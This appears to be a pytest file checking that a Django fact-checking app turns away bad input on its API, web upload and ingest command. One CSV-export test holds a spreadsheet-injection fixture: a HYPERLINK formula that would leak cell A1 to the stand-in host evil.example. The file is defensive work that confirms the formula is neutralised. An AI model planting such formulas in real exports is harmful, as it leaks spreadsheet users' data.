"""Bad input on every entry point (API, web upload, command line): a clear 4xx or a clear
message, and nothing stored; good input next to it still goes in."""

import base64
import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import OperationalError

from provenance.models import Article, Attribution, Claim, Source
from provenance.notes import MAX_NOTE_CHARS
from provenance.services import ingest as ingest_service
from provenance.services.attributions import MAX_CHAIN_HOPS
from tests.test_ingest_command import run_ingest

pytestmark = pytest.mark.django_db

BODY = "The dam displaced 40,000 villagers, two officials told Reuters on Monday.\n"
GOOD_LINE = json.dumps({"title": "Flood", "body": "The dam burst on Monday, officials said."})
LONE_SURROGATE_LINE = '{"title": "Flood", "body": "The dam burst \\ud800 on Monday."}'


def post_json(client, data: str, path: str = "/api/v1/articles/"):
    return client.post(path, data, content_type="application/json")


# --- the API's JSON ------------------------------------------------------------------------


def test_deeply_nested_json_is_a_clear_400(api_client_for, users):
    response = post_json(api_client_for(users["annotator"]), "[" * 50_000)
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert "nested too deeply" in response.json()["message"]


def test_a_lone_surrogate_in_the_api_json_is_a_clear_400(api_client_for, users, project):
    """DRF's text fields refuse it already; this guards that, since the readers' own check
    (``provenance.text.decoding.parse_json``) does not run on the API's JSON."""
    payload = f'{{"project": "{project.name}", "body": "The dam burst \\ud800 on Monday."}}'
    response = post_json(api_client_for(users["annotator"]), payload)
    assert response.status_code == 400
    assert "Surrogate characters are not allowed: U+D800" in response.json()["message"]
    assert not Article.objects.exists()


def test_a_forged_cursor_position_is_a_400(api_client_for, users, ingest):
    ingest(BODY)
    cursor = base64.b64encode(b"p=abc").decode()
    response = api_client_for(users["reviewer"]).get(f"/api/v1/claims/?cursor={cursor}")
    assert response.status_code == 400
    assert "follow the next link" in response.json()["fields"]["cursor"]


def test_an_oversized_request_body_is_a_413_naming_the_limit(api_client_for, users, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    payload = json.dumps({"project": "Dam story", "body": "x" * 20_000})
    response = post_json(api_client_for(users["annotator"]), payload)
    assert response.status_code == 413
    assert response.json()["error"] == "too_large"
    message = response.json()["message"]
    assert "is 19.6 KB" in message and "limit is 9.8 KB" in message, message


# --- one article size limit on every entry point -----------------------------------------

LIMIT = 1_000
BIG_BODY = "The river rose again overnight, officials said. " * 100  # 4,800 bytes


def test_the_api_json_body_has_the_article_limit(api_client_for, users, project, settings):
    settings.MAX_ARTICLE_BYTES = LIMIT
    payload = json.dumps({"project": project.name, "body": BIG_BODY})
    response = post_json(api_client_for(users["annotator"]), payload)
    assert response.status_code == 400
    message = response.json()["message"]
    assert "4.7 KB" in message and "1000 bytes" in message, message
    assert not Article.objects.exists() and not Claim.objects.exists()


def test_an_api_upload_names_its_true_size(api_client_for, users, project, settings):
    settings.MAX_ARTICLE_BYTES = LIMIT
    upload = SimpleUploadedFile("big.txt", (BIG_BODY * 10).encode())
    response = api_client_for(users["annotator"]).post(
        "/api/v1/articles/", {"project": project.name, "file": upload}, format="multipart"
    )
    assert response.status_code == 400
    assert "46.9 KB" in response.json()["message"], response.json()
    assert not Article.objects.exists()


def test_a_web_upload_names_its_true_size(client, users, project, settings):
    settings.MAX_ARTICLE_BYTES = LIMIT
    client.force_login(users["annotator"])
    response = client.post(
        f"/projects/{project.pk}/upload/",
        {"file": SimpleUploadedFile("big.txt", (BIG_BODY * 10).encode())},
        follow=True,
    )
    page = response.content.decode()
    assert "Upload refused" in page and "46.9 KB" in page and "1000 bytes" in page
    assert not Article.objects.exists()


def test_an_uploaded_batch_larger_than_one_article_is_read_whole(client, users, project, settings):
    """A JSON Lines upload is a batch: the article limit bounds each line, not the file."""
    settings.MAX_ARTICLE_BYTES = LIMIT
    lines = [
        json.dumps({"title": f"Story {n}", "body": f"Officials said {n} bridges collapsed. " * 8})
        for n in range(6)
    ]
    data = "\n".join(lines).encode()
    assert len(data) > LIMIT and all(len(line) < LIMIT for line in lines)
    client.force_login(users["annotator"])
    client.post(f"/projects/{project.pk}/upload/", {"file": SimpleUploadedFile("b.jsonl", data)})
    assert Article.objects.count() == 6


def test_an_uploaded_batch_has_the_batch_limit(api_client_for, users, project, settings):
    settings.MAX_JSONL_BYTES = 500
    upload = SimpleUploadedFile("batch.jsonl", ((GOOD_LINE + "\n") * 20).encode())
    response = api_client_for(users["annotator"]).post(
        "/api/v1/articles/", {"project": project.name, "file": upload}, format="multipart"
    )
    assert response.status_code == 400
    assert "batch.jsonl" in response.json()["message"] and "500 bytes" in response.json()["message"]


# --- JSON Lines a JSON reader chokes on, or that no database can hold ---------------------


def test_a_lone_surrogate_line_is_rejected_and_the_run_goes_on(tmp_path):
    (tmp_path / "a_bad.jsonl").write_text(GOOD_LINE + "\n" + LONE_SURROGATE_LINE + "\n")
    (tmp_path / "b_good.txt").write_text(BODY)
    out, err, code = run_ingest(str(tmp_path))
    assert code != 0
    assert "1 articles added" in out and "1 files rejected" in out
    assert "a_bad.jsonl line 2" in err and "\\ud800" in err
    assert "Traceback" not in err
    assert Article.objects.count() == 1 and not Article.objects.filter(title="Flood").exists()


def test_a_deeply_nested_line_is_rejected_clearly(tmp_path):
    (tmp_path / "deep.jsonl").write_text('{"body": ' + "[" * 50_000 + "\n")
    (tmp_path / "good.txt").write_text(BODY)
    out, err, code = run_ingest(str(tmp_path))
    assert code != 0 and "1 articles added" in out
    assert "deep.jsonl line 1" in err and "nested too deeply" in err


def test_a_web_upload_with_a_lone_surrogate_says_why(client, users, project):
    client.force_login(users["annotator"])
    upload = SimpleUploadedFile("batch.jsonl", LONE_SURROGATE_LINE.encode())
    response = client.post(f"/projects/{project.pk}/upload/", {"file": upload}, follow=True)
    assert response.status_code == 200
    page = response.content.decode()
    assert "Upload refused" in page and "batch.jsonl line 1" in page
    assert not Article.objects.exists()


# --- CSV export and spreadsheet formulas -------------------------------------------------


def test_csv_export_neutralises_formulas_and_json_keeps_the_text(ingest):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1, "Details") the ministry said.'
    ingest(f"{formula}\n", title="+SUM(1,2)", publisher="@Reuters")
    out = io.StringIO()
    call_command("export", "--status", "all", "--format", "csv", stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["text"] == "'" + formula
    assert rows[0]["article_title"] == "'+SUM(1,2)"
    out = io.StringIO()
    call_command("export", "--status", "all", "--format", "jsonl", stdout=out)
    assert json.loads(out.getvalue().splitlines()[0])["text"] == formula


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    from annotations.formats.csv_format import spreadsheet_safe

    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_safe("40,000 villagers") == "40,000 villagers"
    assert spreadsheet_safe(-3) == -3  # numbers are numbers, not text


# --- limits on what reviewers write -------------------------------------------------------


def test_an_attribution_chain_has_a_maximum_length(api_client_for, users, ingest):
    claim = ingest(BODY).claims.first()
    sources_before = Source.objects.count()
    for hops in (MAX_CHAIN_HOPS + 1, 10_000):
        chain = [{"name": f"Relay {n}", "kind": "individual"} for n in range(hops)]
        response = api_client_for(users["annotator"]).post(
            f"/api/v1/claims/{claim.pk}/attributions/", {"chain": chain}, format="json"
        )
        assert response.status_code == 400
        assert f"at most {MAX_CHAIN_HOPS}" in response.json()["message"]
    assert Source.objects.count() == sources_before
    assert not Attribution.objects.filter(origin="reviewer").exists()
    chain = [{"name": f"Relay {n}", "kind": "individual"} for n in range(MAX_CHAIN_HOPS)]
    response = api_client_for(users["annotator"]).post(
        f"/api/v1/claims/{claim.pk}/attributions/", {"chain": chain}, format="json"
    )
    assert response.status_code == 201


def test_a_chain_from_the_claim_panel_has_the_same_limit(client, users, ingest):
    claim = ingest(BODY).claims.first()
    client.force_login(users["annotator"])
    hops = MAX_CHAIN_HOPS + 1
    response = client.post(
        f"/claims/{claim.pk}/attributions/add/",
        {"hop_name": [f"Relay {n}" for n in range(hops)], "hop_kind": ["individual"] * hops},
        follow=True,
    )
    assert f"at most {MAX_CHAIN_HOPS}" in response.content.decode()
    assert not Attribution.objects.filter(origin="reviewer").exists()


def test_review_and_adjudication_notes_have_a_maximum_size(api_client_for, users, ingest):
    from annotations.services.adjudication import claim_adjudicate
    from annotations.services.reviews import review_submit
    from provenance.errors import DomainError

    claim = ingest(BODY).claims.first()
    note = "n" * (MAX_NOTE_CHARS + 1)
    response = api_client_for(users["reviewer"]).post(
        f"/api/v1/claims/{claim.pk}/reviews/",
        {"verdict": "supported", "confidence": 0.8, "note": note, "version": claim.version},
        format="json",
    )
    assert response.status_code == 400
    assert f"{MAX_NOTE_CHARS}" in response.json()["message"]
    judgement = {"verdict": "supported", "confidence": 0.8, "version": claim.version, "note": note}
    with pytest.raises(DomainError, match=f"at most {MAX_NOTE_CHARS:,}"):
        review_submit(claim=claim, user=users["reviewer"], **judgement)
    with pytest.raises(DomainError, match=f"at most {MAX_NOTE_CHARS:,}"):
        claim_adjudicate(claim=claim, user=users["editor"], **judgement)
    assert not claim.reviews.exists() and not claim.adjudications.exists()


def test_a_long_note_from_the_queue_page_is_refused_with_the_reason(client, users, ingest):
    claim = ingest(BODY).claims.first()
    client.force_login(users["reviewer"])
    response = client.post(
        "/queue/act/",
        {
            "action": "review",
            "claim": claim.pk,
            "verdict": "supported",
            "confidence": "0.8",
            "version": claim.version,
            "note": "n" * (MAX_NOTE_CHARS + 1),
        },
        follow=True,
    )
    assert f"at most {MAX_NOTE_CHARS:,}" in response.content.decode()
    assert not claim.reviews.exists()


# --- the database going away in the middle of an ingest ----------------------------------


def test_a_dropped_database_stops_the_ingest_with_one_clear_line(tmp_path, monkeypatch, settings):
    """The connection is cut by raising what psycopg raises then (OperationalError), as in
    tests/reliability/test_connection_dropped.py; tests/reliability/test_ingest_database_lost.py
    cuts a real PostgreSQL connection."""
    for number in range(4):
        (tmp_path / f"{number}.txt").write_text(f"Officials said {number + 2} bridges fell.\n")
    original = ingest_service._store_batch

    def drop_on_the_second_batch(**kwargs):
        if any(item.origin.endswith("2.txt") for item in kwargs["prepared"]):
            raise OperationalError("server closed the connection unexpectedly")
        return original(**kwargs)

    settings.INGEST_BATCH_ARTICLES = 2  # files 0 and 1, then 2 and 3
    monkeypatch.setattr(ingest_service, "_store_batch", drop_on_the_second_batch)
    _out, err, code = run_ingest(str(tmp_path))
    assert code != 0
    message = [line for line in err.splitlines() if "database" in line.lower()]
    assert len(message) == 1, err
    line = message[0]
    assert "database unavailable" in line.lower()
    assert "2 articles from 2 files stored" in line
    assert "2 files not stored, from " in line and "2.txt on" in line
    assert "Traceback" not in err
    assert Article.objects.count() == 2


# --- ids in the claim filters --------------------------------------------------------------


@pytest.mark.parametrize("value", ["-5.1432148043574737e+216", "9223372036854775808", "2.5", "0"])
@pytest.mark.parametrize("name", ["article", "source", "relay", "group"])
def test_an_id_no_row_can_have_is_a_400_naming_the_parameter(
    api_client_for, users, ingest, name, value
):
    ingest(BODY)
    response = api_client_for(users["reviewer"]).get("/api/v1/claims/", {name: value})
    assert response.status_code == 400, response.content
    assert f"{name} must be the id of" in response.json()["message"]
